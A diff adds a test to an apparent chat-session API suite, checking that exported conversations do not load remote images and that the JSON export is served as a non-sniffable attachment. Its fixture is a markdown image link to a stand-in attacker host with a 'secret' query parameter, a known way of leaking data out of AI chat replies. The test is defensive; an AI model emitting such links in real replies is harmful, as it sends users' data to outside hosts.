@@ -178,3 +178,12 @@ def test_listing_with_questions_costs_the_same_for_any_number(anns_api: APIClien
     for _ in range(5):
         say(Session.objects.create(user=ann), "a", "b", result={"type": "clarification_needed"})
     assert cost() == few
+
+
+def test_an_exported_conversation_loads_no_picture_from_elsewhere(anns_api: APIClient, talk: Session) -> None:
+    say(talk, "Read it", "![x](http://evil.example/?q=secret)")
+    assert "\n[x](http://evil.example/?q=secret)\n" in exported(anns_api, talk, "markdown")
+    answer = anns_api.get(f"/api/sessions/{talk.pk}/export?as=json")
+    assert answer["Content-Type"] == "application/json", "which nobody shows as a page"
+    assert answer["Content-Disposition"].startswith("attachment")
+    assert answer["X-Content-Type-Options"] == "nosniff"
